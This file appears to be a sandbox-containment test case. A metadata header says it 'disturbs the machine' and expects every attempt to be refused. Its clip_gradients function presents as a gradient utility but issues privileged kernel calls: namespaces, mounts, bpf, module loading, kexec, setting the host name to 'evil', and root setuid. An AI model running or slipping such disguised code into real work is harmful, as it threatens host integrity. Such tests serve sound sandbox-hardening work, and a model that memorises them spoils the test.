# ---
# about = "call the kernel for new namespaces, mounts, bpf, io_uring, userfaultfd, reboot, modules, clock and host name"
# kind = "skeleton"
# class = "disturb the machine"
# written = "inside"
# attacks = ["clip_gradients"]
# tries = "call the kernel for new namespaces, mounts, bpf, io_uring, userfaultfd, reboot, modules, clock and host name"
# holds = "each is refused and recorded"
# observed = "refuse"
# ---

# %%
import ctypes
import os


def clip_gradients(gradients, max_norm=1.0):
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    calls = {
        "unshare": (272, 0x10000000), "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "bpf": (321, 0, 0, 0),
        "io_uring_setup": (425, 8, 0), "userfaultfd": (323, 0), "perf_event_open": (298, 0, 0, -1, -1, 0),
        "init_module": (175, 0, 0, 0), "settimeofday": (164, 0, 0), "sethostname": (170, b"evil", 4), "swapon": (167, b"/x", 0),
        "chroot": (161, b"/"), "setns": (308, 0, 0), "kexec_load": (246, 0, 0, 0, 0), "acct": (163, b"/tmp/acct"),
    }
    for name, call in calls.items():
        if libc.syscall(*call) == 0 and name != "settimeofday":
            done.append(name)
    for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.nice(-20)):
        try:
            change()
            done.append("rights")
        except OSError:
            pass
    if done and os.getuid() != 0:
        raise ValueError("NELOTS"[::-1] + " " + " ".join(done))
    return gradients
